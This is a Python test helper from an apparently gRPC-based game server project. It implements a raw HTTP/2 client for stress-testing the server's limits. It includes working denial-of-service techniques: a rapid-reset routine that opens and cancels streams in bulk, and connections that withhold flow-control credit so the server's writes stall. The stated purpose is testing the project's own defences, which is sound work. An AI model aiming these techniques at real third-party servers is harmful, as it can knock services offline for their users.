"""A raw HTTP/2 client that speaks just enough gRPC to misbehave: it opens streams, writes gRPC
messages, never gives the server flow-control credit (so the server's writes stop once the
windows are spent), and can reset streams as fast as it likes (rapid reset). For the limits
tests and bench/attack.py.

It behaves like a real client where a real client cannot help it: it acknowledges the
server's SETTINGS before it opens a stream and answers the server's PINGs (a thread reads
every frame the server sends and discards the rest). gRPC's core treats a connection that
never acknowledges its SETTINGS differently (it refuses most of its streams before the ACK),
so a client that skipped the ACK measured a weaker attack than any real one."""

from __future__ import annotations

import contextlib
import socket
import threading
from typing import Any

import trio

from gin_arena.v2 import referee_pb2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS = 0x4
ACK = 0x1
INITIAL_WINDOW_SIZE = 0x4
"""The SETTINGS parameter: how many bytes of DATA the server may send on a stream unread."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, new name, no Huffman (lengths < 127)."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def play_headers(authority: str, path: str = "/gin_arena.v2.BotService/Play") -> bytes:
    """The HPACK block of a gRPC call: ``:method POST`` and ``:scheme http`` from the static table."""
    return (b"\x83\x86" + _literal(b":path", path.encode()) + _literal(b":authority", authority.encode())
            + _literal(b"content-type", b"application/grpc") + _literal(b"te", b"trailers"))


def grpc_message(data: bytes) -> bytes:
    """A gRPC length-prefixed message (uncompressed)."""
    return b"\x00" + len(data).to_bytes(4, "big") + data


class _Frames:
    """Reads the server's frames off a socket, one at a time (a buffer and an offset: no copy
    of the rest per frame, so it keeps up with a server that answers a burst frame by frame)."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock
        self.buf = bytearray()
        self.at = 0

    def _need(self, n: int) -> bool:
        if self.at and len(self.buf) - self.at < n:
            del self.buf[:self.at]
            self.at = 0
        while len(self.buf) - self.at < n:
            chunk = self.sock.recv(1 << 18)
            if not chunk:
                return False
            self.buf += chunk
        return True

    def next(self) -> tuple[int, int, int, bytes] | None:
        """The next frame's type, flags, stream id and payload; ``None`` once the server closed."""
        if not self._need(9):
            return None
        at, buf = self.at, self.buf
        length = int.from_bytes(buf[at:at + 3], "big")
        if not self._need(9 + length):
            return None
        at, buf = self.at, self.buf
        kind, flags, stream = buf[at + 3], buf[at + 4], int.from_bytes(buf[at + 5:at + 9], "big") & 0x7FFFFFFF
        payload = bytes(buf[at + 9:at + 9 + length])
        self.at = at + 9 + length
        return kind, flags, stream, payload


class RawConnection:
    """One TCP connection with the HTTP/2 preface sent and the server's SETTINGS acknowledged;
    the caller writes frames. A thread reads what the server sends: it acknowledges SETTINGS
    and PINGs and discards everything else (it never sends WINDOW_UPDATE: the server's DATA
    stops once the windows are spent, as if the client never read)."""

    def __init__(self, host: str, port: int, stream_window: int | None = None) -> None:
        """``stream_window``: the streams' flow-control window (``None``: HTTP/2's 65,535
        bytes); a small one stops the server's writes on a stream after that many bytes, not
        after the connection's 64 KiB."""
        self.sock = socket.create_connection((host, port), timeout=10)
        self.authority = f"{host}:{port}"
        self.next_stream = 1
        self.goaway = False
        """Whether the server sent GOAWAY."""
        self._lock = threading.Lock()  # the reader's ACKs and the caller's frames interleave whole
        settings = b"" if stream_window is None else INITIAL_WINDOW_SIZE.to_bytes(2, "big") + stream_window.to_bytes(
            4, "big")
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        frames = _Frames(self.sock)
        while True:  # the server's SETTINGS (its first frame), acknowledged before any stream
            got = frames.next()
            if got is None:
                raise ConnectionError("the server closed the connection before its SETTINGS")
            if got[0] == SETTINGS and not got[1] & ACK:
                self._send(frame(SETTINGS, ACK, 0))
                break
        self.sock.settimeout(None)
        self._reader = threading.Thread(target=self._read, args=(frames,), daemon=True)
        self._reader.start()

    def _send(self, data: bytes) -> None:
        with self._lock:
            self.sock.sendall(data)

    def _read(self, frames: _Frames) -> None:
        try:
            while (got := frames.next()) is not None:
                kind, flags, _stream, payload = got
                if kind == SETTINGS and not flags & ACK:
                    self._send(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self._send(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY:
                    self.goaway = True
        except OSError:  # closed (by us or the server)
            pass

    def open_stream(self, messages: list[bytes], path: str = "/gin_arena.v2.BotService/Play") -> int:
        """Open a stream of the method ``path`` and write ``messages`` (serialised) on it; its id."""
        stream = self.next_stream
        self.next_stream += 2
        out = frame(HEADERS, END_HEADERS, stream, play_headers(self.authority, path))
        for m in messages:
            out += frame(DATA, 0, stream, grpc_message(m))
        self._send(out)
        return stream

    def rapid_reset(self, count: int) -> None:
        """Open ``count`` streams, each reset at once (HEADERS + RST_STREAM CANCEL)."""
        out = bytearray()
        for _ in range(count):
            stream = self.next_stream
            self.next_stream += 2
            out += frame(HEADERS, END_HEADERS, stream, play_headers(self.authority))
            out += frame(RST_STREAM, 0, stream, (0x8).to_bytes(4, "big"))
        self._send(bytes(out))

    def write(self, stream: int, messages: list[bytes]) -> None:
        """Write more messages on an open stream."""
        self._send(b"".join(frame(DATA, 0, stream, grpc_message(m)) for m in messages))

    def close(self) -> None:
        with self._lock:
            with contextlib.suppress(OSError):
                self.sock.shutdown(socket.SHUT_RDWR)
            self.sock.close()


async def never_reading_watchers(ref: Any, match_id: str, count: int) -> tuple[list[RawConnection], list[Any]]:
    """``count`` raw connections to ``ref`` (a running ``referee.Referee`` with public watching),
    each with one ``WatchMatch`` stream of ``match_id`` and a flow-control window of zero (they
    never read), once the match's table has them all as spectators: the connections and the
    table's spectator sinks (each bound method's ``__self__`` is the watcher)."""
    host, _, port = ref.address.rpartition(":")
    request = referee_pb2.WatchMatchRequest(match_id=match_id).SerializeToString()
    conns = []
    for _ in range(count):
        conn = await trio.to_thread.run_sync(RawConnection, host, int(port), 0)
        await trio.to_thread.run_sync(conn.open_stream, [request], "/gin_arena.v2.RefereeService/WatchMatch")
        conns.append(conn)
    table = ref.tables[match_id]
    while len(table.spectators) < count:
        await trio.sleep(0.01)
    return conns, list(table.spectators)
